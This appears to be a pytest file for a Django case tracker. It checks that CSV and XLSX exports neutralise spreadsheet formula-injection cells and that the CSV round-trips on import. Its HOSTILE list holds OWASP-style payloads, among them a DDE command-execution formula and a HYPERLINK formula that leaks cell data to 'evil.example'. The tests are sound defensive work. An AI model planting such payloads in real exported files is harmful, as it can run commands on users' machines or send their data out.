"""No download runs a cell as a formula: OWASP's CSV-injection payloads, in every variant a
spreadsheet still runs (leading spaces, full-width signs, a tab or carriage return first),
go out inert from the tracker's CSV and XLSX and from any table_response download (the
minutes-as-tracker), and the CSV's ' comes off again on import."""

import csv
import re
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from permanence.spreadsheets import csv_cell, table_response
from tracker import services
from tracker.importer import children_import
from tracker.models import Child

pytestmark = pytest.mark.django_db

# OWASP's "CSV Injection" payloads, and the forms of them the first guard let through.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\u00a0+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=already quoted",
]
# How a spreadsheet reads a cell: it skips spaces, and takes full-width signs as signs.
LIVE = re.compile(r"(\s*[=+\-@＝＋－＠]|[\t\r])")


def live(cell) -> bool:
    return isinstance(cell, str) and bool(LIVE.match(cell))


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_csv_cell_goes_out_inert(text):
    assert not live(csv_cell(text))
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Ada", "O'Brien", "'Tis", "C2", "2026-01-05", "a=b", "x-y"])
def test_ordinary_text_goes_out_as_it_is(text):
    assert csv_cell(text) == text


@pytest.fixture
def hostile_children():
    for number, text in enumerate(HOSTILE):
        services.child_create(case_number=f"CN{number}", first_name=text, last_name=text)


def test_the_tracker_downloads_send_no_live_cell(hostile_children, administrator_client):
    url = reverse("tracker:list")
    response = administrator_client.get(url, {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert [cell for row in rows for cell in row if live(cell)] == []

    response = administrator_client.get(url, {"export": "xlsx"})
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    hostile = [cell for cell in cells if live(cell.value)]
    assert len(hostile) == 2 * len(HOSTILE) - 2  # first and last names, less '…
    # Each is text that stays text when edited, as if typed with a leading '.
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert not any(cell.quotePrefix for cell in cells if cell.value in ("Ada", "CN1", None))


def test_the_csv_round_trip_gives_back_the_same_names(hostile_children, administrator_client):
    response = administrator_client.get(reverse("tracker:list"), {"export": "csv"})
    data = b"".join(response.streaming_content)
    before = dict(Child.objects.values_list("case_number", "last_name"))

    assert children_import(data=data).problems == []
    # The import trims each cell, so leading spaces are not kept; the rest comes back exactly.
    after = dict(Child.objects.values_list("case_number", "last_name"))
    assert {k: v.strip() for k, v in after.items()} == {k: v.strip() for k, v in before.items()}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_table_download_sends_no_live_cell(file_format):
    response = table_response(
        columns=("note",), rows=[[text] for text in HOSTILE], filename="t", file_format=file_format
    )
    if file_format == "csv":
        cells = [row[0] for row in csv.reader(StringIO(response.content.decode("utf-8-sig")))]
        assert [cell for cell in cells if live(cell)] == []
    else:
        sheet = load_workbook(BytesIO(response.content)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert all(cell.quotePrefix for cell in cells if live(cell.value))


def test_control_characters_an_xlsx_cannot_hold_are_taken_out():
    response = table_response(
        columns=("note",), rows=[["a\x01b\x1f"]], filename="t", file_format="xlsx"
    )
    assert load_workbook(BytesIO(response.content)).active["A2"].value == "ab"


def test_xlsx_text_stays_text_numbers_stay_numbers_and_empty_text_is_no_cell():
    response = table_response(
        columns=("a", "b", "c", "d", "e"),
        rows=[["plain", "", 0, False, "=1+1"]],
        filename="t",
        file_format="xlsx",
    )
    sheet = load_workbook(BytesIO(response.content)).active
    plain, empty, zero, no, formula = next(sheet.iter_rows(min_row=2, max_row=2))
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("plain", "s", False)
    assert empty.value is None
    assert (zero.value, no.value) == (0, False)
    assert (formula.value, formula.data_type, formula.quotePrefix) == ("=1+1", "s", True)
